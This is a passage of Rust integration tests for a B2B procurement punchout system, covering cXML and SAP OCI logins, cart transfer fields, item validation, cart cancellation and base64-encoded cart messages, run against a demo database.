async fn concurrent_setups_of_a_new_user_all_get_a_start_page() {
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let request = setup_request(&buyer.secret, "new.buyer@hafenlogistik.example");
    let answers =
        futures::future::join_all((0..8).map(|_| post(&t, &buyer, "nordwind", &request))).await;
    for answer in &answers {
        assert_eq!(code_of(answer), 200, "{}", answer.xml);
    }
}

#[tokio::test]
async fn sap_oci_shops_validates_and_shows_details_with_the_same_catalog() {
    use simdesk_domain::punchout::oci::{enter, OciEntry, OciOutcome};
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let admin = actor(&t, NORDWIND_ADMIN).await;
    let saved = credentials::save(
        &t.db,
        &buyer.key,
        &admin,
        None,
        None,
        credential_input(buyer.account_id, "OCI", "SAP-SRM"),
    )
    .await
    .unwrap();
    let password = saved.generated_secret.unwrap();
    let entry = OciEntry {
        username: "SAP-SRM".into(),
        password: password.clone(),
        hook_url: "https://srm.example/sap/bc/srm/oci?sap-client=100".into(),
        target: "_parent".into(),
        ok_code: "ADDI".into(),
        caller: "CTLG".into(),
        user_email: "sap.buyer@hafenlogistik.example".into(),
        ..Default::default()
    };
    let wrong = OciEntry {
        password: "wrong-password-wrong".into(),
        ..entry.clone()
    };
    assert!(matches!(
        enter(&t.db, &buyer.key, "nordwind", &wrong).await,
        Err(simdesk_domain::punchout::PunchOutError::Unauthorized)
    ));
    // The cXML credential of the same account does not open OCI.
    let cxml_login = OciEntry {
        username: BUYER_ID.into(),
        password: buyer.secret.clone(),
        ..entry.clone()
    };
    assert!(enter(&t.db, &buyer.key, "nordwind", &cxml_login)
        .await
        .is_err());

    let Ok(OciOutcome::Visit(started)) = enter(&t.db, &buyer.key, "nordwind", &entry).await else {
        panic!("an OCI visit")
    };
    let shopper = Actor::load(&t.db, started.user_id).await.unwrap().unwrap();
    let cart = shopping::cart(&t.db, &shopper, started.visit)
        .await
        .unwrap();
    let nano = cart
        .entries
        .iter()
        .find(|e| e.part_number.ends_with("-IOT-4FF"))
        .unwrap()
        .clone();
    let back = shopping::transfer(
        &t.db,
        &shopper,
        started.visit,
        Some(cart_form(vec![(nano.product_id, "20".into())])),
    )
    .await
    .unwrap();
    assert_eq!(
        back.url,
        "https://srm.example/sap/bc/srm/oci?sap-client=100"
    );
    assert_eq!(back.target.as_deref(), Some("_parent"));
    assert_eq!(back.field("~OkCode"), Some("ADDI"));
    assert_eq!(back.field("~CALLER"), Some("CTLG"));
    assert_eq!(back.field("NEW_ITEM-QUANTITY[1]"), Some("20"));
    assert_eq!(
        back.field("NEW_ITEM-EXT_PRODUCT_ID[1]"),
        Some(nano.part_number.as_str())
    );
    assert_eq!(back.field("NEW_ITEM-CURRENCY[1]"), Some("EUR"));
    assert_eq!(back.field("NEW_ITEM-PRICEUNIT[1]"), Some("1"));
    let price = format!("{}.{:02}", nano.price.minor / 100, nano.price.minor % 100);
    assert_eq!(back.field("NEW_ITEM-PRICE[1]"), Some(price.as_str()));
    let quote = back.field("NEW_ITEM-EXT_QUOTE_ID[1]").unwrap();
    let po_id: i64 = quote.split(':').nth(1).unwrap().parse().unwrap();
    assert_eq!(
        po(&t, po_id).await.status,
        PoStatus::AwaitingBuyerPo.as_str()
    );

    let validate = OciEntry {
        function: "VALIDATE".into(),
        product_id: nano.part_number.clone(),
        quantity: "30.000".into(),
        user_email: String::new(),
        ..entry.clone()
    };
    let Ok(OciOutcome::Validated(item)) = enter(&t.db, &buyer.key, "nordwind", &validate).await
    else {
        panic!("a validated item")
    };
    assert_eq!(item.field("NEW_ITEM-QUANTITY[1]"), Some("30"));
    assert_eq!(item.field("NEW_ITEM-PRICE[1]"), Some(price.as_str()));
    let detail = OciEntry {
        function: "DETAIL".into(),
        product_id: nano.part_number.clone(),
        ..entry.clone()
    };
    assert!(matches!(
        enter(&t.db, &buyer.key, "nordwind", &detail).await,
        Ok(OciOutcome::Detail(..))
    ));
    let unknown = OciEntry {
        function: "DETAIL".into(),
        product_id: "ALPINA-IOT-4FF".into(),
        ..entry.clone()
    };
    assert!(matches!(
        enter(&t.db, &buyer.key, "nordwind", &unknown).await,
        Err(simdesk_domain::punchout::PunchOutError::BadRequest(_))
    ));
    let nameless = OciEntry {
        user_email: String::new(),
        ..entry
    };
    assert!(matches!(
        enter(&t.db, &buyer.key, "nordwind", &nameless).await,
        Err(simdesk_domain::punchout::PunchOutError::BadRequest(_))
    ));
}

#[tokio::test]
async fn cancelling_returns_what_was_sent_and_base64_carts_decode() {
    use base64::Engine;
    let t = full_demo_db().await;
    let buyer = hafen_buyer(&t).await;
    let count = po_count(&t).await;

    // Cancelling a new cart returns an empty one and records nothing.
    let (shopper, visit) = visit_as(&t, &buyer, "pat@hafenlogistik.example").await;
    let back = shopping::transfer(&t.db, &shopper, visit, None)
        .await
        .unwrap();
    let message = cxml::parse(back.field("cxml-urlencoded").unwrap().as_bytes()).unwrap();
    let cxml::Body::Message(m) = &message.body else {
        panic!("a PunchOutOrderMessage")
    };
    assert!(m.punch_out_order_message.items.is_empty());
    assert_eq!(m.punch_out_order_message.header.total.minor_units, 0);
    assert_eq!(po_count(&t).await, count);
    assert!(
        matches!(
            shopping::transfer(&t.db, &shopper, visit, None).await,
            Err(DomainError::Conflict(_))
        ),
        "a visit returns one cart"
    );

    // An account configured for cxml-base64 gets its cart that way.
    let admin = actor(&t, NORDWIND_ADMIN).await;
    let listed = credentials::list(&t.db, &admin, Some(buyer.account_id))
        .await
        .unwrap();
    credentials::save(
        &t.db,
        &buyer.key,
        &admin,
        Some(listed[0].id),
        Some(listed[0].version),
        PunchoutCredentialInput {
            cart_encoding: "base64".into(),
            ..credential_input(buyer.account_id, "NetworkID", BUYER_ID)
        },
    )
    .await
    .unwrap();
    // (The secret was kept: the setup below authenticates with it.)
    let (shopper, visit) = visit_as(&t, &buyer, "pat@hafenlogistik.example").await;
    let nano = nano_in(&t, &shopper, visit).await;
    let back = shopping::transfer(
        &t.db,
        &shopper,
        visit,
        Some(cart_form(vec![(nano.product_id, "10".into())])),
    )
    .await
    .unwrap();
    let encoded = back.field("cxml-base64").expect("a cxml-base64 field");
    let xml = base64::engine::general_purpose::STANDARD
        .decode(encoded)
        .unwrap();
    let message = cxml::parse(&xml).unwrap();
    assert!(matches!(message.body, cxml::Body::Message(_)));

    // Quantities off the product's steps are named, and nothing is recorded.
    let (shopper, visit) = visit_as(&t, &buyer, "pat@hafenlogistik.example").await;
    let before = po_count(&t).await;
    let wrong = shopping::transfer(
        &t.db,
        &shopper,
        visit,
        Some(cart_form(vec![(nano.product_id, "15".into())])),
    )
    .await;
    assert!(matches!(wrong, Err(DomainError::Invalid(_))), "{wrong:?}");
    assert_eq!(po_count(&t).await, before);
}
